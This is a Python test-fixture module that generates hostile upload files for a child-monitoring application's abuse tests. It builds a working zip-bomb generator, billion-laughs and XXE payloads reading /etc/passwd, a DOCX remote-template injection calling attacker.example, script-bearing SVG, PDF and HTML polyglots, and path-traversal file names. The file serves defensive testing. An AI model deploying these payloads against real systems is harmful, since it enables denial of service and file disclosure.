"""Hostile files, made in code at test time (nothing binary is committed): every place a user
uploads or imports a file is tried with each of them (test_abuse_uploads.py).

`CORPUS` maps a sample's id to its file name and a function making its bytes. Samples are
built once per process (the zip bomb takes a moment).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from openpyxl import Workbook

GIB = 1024**3

PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 64 + b"\xff\xd9"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)  # &lol9; is 10⁹ "lol"s
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/%s" ContentType="%s"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENT = (
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
)
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Sample:
    name: str  # the name the browser sends
    make: Callable[[], bytes]


def _zip(members: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(
    document: str = DOCUMENT % "Biên bản", extra: dict[str, bytes | str] | None = None
) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES % ("word/document.xml", DOCX_MAIN),
            "word/document.xml": document,
            **(extra or {}),
        }
    )


@cache
def book() -> bytes:
    """A child-monitoring book with the system's headers and one child (openpyxl)."""
    from cpms.children.spreadsheets.columns import COLUMNS

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([c.header for c in COLUMNS])
    sheet.append([1, "Trần Văn An", "02/05/2016", "Nam"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite(
    data: bytes,
    changes: dict[str, Callable[[bytes], bytes]],
    add: dict[str, bytes] | None = None,
) -> bytes:
    """A copy of a zip with some members changed and others added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename in changes:
                content = changes[item.filename](content)
            archive.writestr(item.filename, content)
        for name, content in (add or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """Raw deflate data of `size` zero bytes and its CRC, made in a fraction of a second:
    one fully flushed block of 1 MiB zeros (it refers to nothing before it) repeated."""
    chunk = 1 << 20
    assert size % chunk == 0
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = block.compress(b"\0" * chunk) + block.flush(zlib.Z_FULL_FLUSH)
    crc, zeros = 0, b"\0" * chunk
    for _ in range(size // chunk):
        crc = zlib.crc32(zeros, crc)
    return one * (size // chunk) + b"\x03\x00", crc  # \x03\x00: an empty final block


def _bomb_zip(small: dict[str, bytes], bomb_name: str, bomb_size: int) -> bytes:
    """A zip of ordinary members plus one deflated member that expands to `bomb_size`."""
    entries: list[tuple[str, bytes, int, int]] = []
    for name, content in small.items():
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        entries.append(
            (name, packer.compress(content) + packer.flush(), zlib.crc32(content), len(content))
        )
    data, crc = _deflated_zeros(bomb_size)
    entries.append((bomb_name, data, crc, bomb_size))
    out, central = io.BytesIO(), io.BytesIO()
    for name, packed, crc, size in entries:
        offset = out.tell()
        encoded = name.encode()
        header = (crc, len(packed), size, len(encoded), 0)
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *header) + encoded)
        out.write(packed)
        central.write(
            struct.pack(
                "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *header, 0, 0, 0, 0, offset
            )
            + encoded
        )
    start, directory = out.tell(), central.getvalue()
    out.write(directory)
    count = len(entries)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0))
    return out.getvalue()


@cache
def zip_bomb(kind: str) -> bytes:
    """A DOCX or XLSX whose main XML part expands to more than 1 GiB (about 1 MiB on disk)."""
    if kind == "docx":
        small = {"[Content_Types].xml": (CONTENT_TYPES % ("word/document.xml", DOCX_MAIN))}
        return _bomb_zip(
            {k: v.encode() for k, v in small.items()}, "word/document.xml", GIB + GIB // 8
        )
    workbook = zipfile.ZipFile(io.BytesIO(book()))
    small_parts = {
        name: workbook.read(name)
        for name in workbook.namelist()
        if name != "xl/worksheets/sheet1.xml"
    }
    return _bomb_zip(small_parts, "xl/worksheets/sheet1.xml", GIB + GIB // 8)


def nested_zip() -> bytes:
    """A workbook holding a zip that holds a zip, disguised as an image."""
    inner = _zip({"b.zip": _zip({"c.xml": "<c/>" * 1000})})
    return rewrite(book(), {}, {"xl/media/image1.png": inner})


SHARED_STRINGS = (
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>%s</t></si></sst>'
)


def with_shared_name(name: bytes, prolog: bytes = b"") -> bytes:
    """The book with the child's name moved into a shared strings part (`name`: its bytes)."""
    inline = '<c r="B2" t="inlineStr"><is><t>Tr&#7847;n V&#259;n An</t></is></c>'

    def change(content: bytes) -> bytes:
        assert inline.encode() in content
        return content.replace(inline.encode(), b'<c r="B2" t="s"><v>0</v></c>')

    parts = {"xl/sharedStrings.xml": prolog + SHARED_STRINGS % name}
    return rewrite(book(), {"xl/worksheets/sheet1.xml": change}, parts)


def _in_strings(prolog: str, cell: str) -> Callable[[], bytes]:
    """A DTD before the shared strings, and the child's name an entity of it."""
    return lambda: with_shared_name(cell.encode(), prolog.encode())


def invalid_utf8_strings() -> bytes:
    """Shared strings that are not UTF-8 (a book saved by an old tool in Windows-1258)."""
    return with_shared_name("Trần Văn An".encode("cp1258", errors="replace"))


def huge_dimension() -> bytes:
    """A sheet that declares every one of Excel's 1,048,576 rows and 16,384 columns."""

    def change(content: bytes) -> bytes:
        text = content.decode()
        start = text.index('<dimension ref="') + len('<dimension ref="')
        end = text.index('"', start)
        last_row = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        text = text[:start] + "A1:XFD1048576" + text[end:]
        return text.replace("</sheetData>", last_row + "</sheetData>").encode()

    return rewrite(book(), {"xl/worksheets/sheet1.xml": change})


def xlsm_renamed() -> bytes:
    """A macro-enabled workbook (.xlsm) renamed .xlsx: its type says so and it has VBA."""
    return rewrite(
        book(),
        {"[Content_Types].xml": lambda c: c.replace(XLSX_MAIN.encode(), XLSM_MAIN.encode())},
        {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512},
    )


def remote_template_docx() -> bytes:
    """A DOCX that fetches a macro template from a server when opened (template injection)."""
    rels = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" '
        f'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    settings = f'<w:settings xmlns:w="{W}"/>'
    return docx(extra={"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels})


def _pdf_with_js() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript "
        b"/JS (app.alert\\('x'\\)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def _csv_cp1258() -> bytes:
    return "Họ và tên,Ngày sinh\nTrần Văn An,02/05/2016\n".encode("cp1258", errors="replace")


def _svg(handler: str) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" {handler}>'
        "<script>alert(document.domain)</script></svg>"
    ).encode()


CORPUS: dict[str, Sample] = {
    "zip-bomb-docx": Sample("bien-ban.docx", lambda: zip_bomb("docx")),
    "zip-bomb-xlsx": Sample("so-theo-doi.xlsx", lambda: zip_bomb("xlsx")),
    "nested-zip-xlsx": Sample("so-theo-doi.xlsx", nested_zip),
    "nested-zip-docx": Sample(
        "bien-ban.docx",
        lambda: docx(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": book()}),
    ),
    "billion-laughs-xlsx": Sample("so-theo-doi.xlsx", _in_strings(LAUGHS, "&lol9;")),
    "billion-laughs-docx": Sample("bien-ban.docx", lambda: docx(LAUGHS + DOCUMENT % "&lol9;")),
    "xxe-xlsx": Sample("so-theo-doi.xlsx", _in_strings(XXE, "&xxe;")),
    "xxe-docx": Sample("bien-ban.docx", lambda: docx(XXE + DOCUMENT % "&xxe;")),
    "remote-template-docx": Sample("bien-ban.docx", remote_template_docx),
    "xlsm-renamed": Sample("so-theo-doi.xlsx", xlsm_renamed),
    "polyglot-png-html": Sample("anh.png", lambda: PNG + HTML),
    "polyglot-pdf-html": Sample("bao-cao.pdf", lambda: b"%PDF-1.4\n" + HTML + PDF[9:]),
    "gifar-jpeg-zip": Sample("anh.jpg", lambda: JPEG + _zip({"a.class": b"\xca\xfe\xba\xbe"})),
    "svg-script": Sample("anh.svg", lambda: _svg("")),
    "svg-onload-as-png": Sample("anh.png", lambda: _svg('onload="alert(1)"')),
    "html-as-pdf": Sample("bao-cao.pdf", lambda: HTML),
    "html-as-png": Sample("anh.png", lambda: HTML),
    "elf-as-pdf": Sample("bao-cao.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200),
    "pe-as-pdf": Sample(
        "bao-cao.pdf", lambda: b"MZ\x90\x00\x03" + b"\0" * 58 + b"PE\0\0" + b"\0" * 200
    ),
    "empty": Sample("trong.pdf", lambda: b""),
    "csv-cp1258": Sample("so-theo-doi.csv", _csv_cp1258),
    "csv-as-xlsx": Sample("so-theo-doi.xlsx", _csv_cp1258),
    "xlsx-invalid-utf8": Sample("so-theo-doi.xlsx", invalid_utf8_strings),
    "xlsx-huge-dimension": Sample("so-theo-doi.xlsx", huge_dimension),
    "pdf-javascript": Sample("bao-cao.pdf", _pdf_with_js),
}

# Names a browser or a script may send; the content is acceptable (a PDF, a workbook).
HOSTILE_NAMES: dict[str, str] = {
    "parent-dirs": "../../etc/passwd",
    "windows-parent-dirs": "..\\..\\win.ini",
    "absolute": "/etc/cron.d/x.pdf",
    "windows-absolute": "C:\\Windows\\System32\\x.pdf",
    "nul-byte": "bao-cao.pdf\x00.html",
    "very-long": "a" * 5000 + ".pdf",
    "rtl-override": "hoa-don-\u202efdp.exe",
    "slashes": "hồ sơ/trẻ em/bao-cao.pdf",
    "dot-files": ".htaccess",
}
